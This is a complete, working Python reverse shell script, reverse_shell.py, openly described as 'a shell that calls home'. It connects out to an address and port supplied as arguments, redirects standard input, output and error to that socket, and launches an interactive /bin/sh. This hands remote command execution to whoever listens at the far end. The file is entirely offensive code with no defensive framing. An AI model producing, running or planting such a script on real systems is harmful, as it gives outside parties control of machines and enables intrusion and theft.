"""A shell that calls home: reverse_shell.py ADDRESS PORT."""

import os
import socket
import sys

home = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for number in (0, 1, 2):
    os.dup2(home.fileno(), number)
os.execv("/bin/sh", ["/bin/sh", "-i"])  # noqa: S606 - it is the point
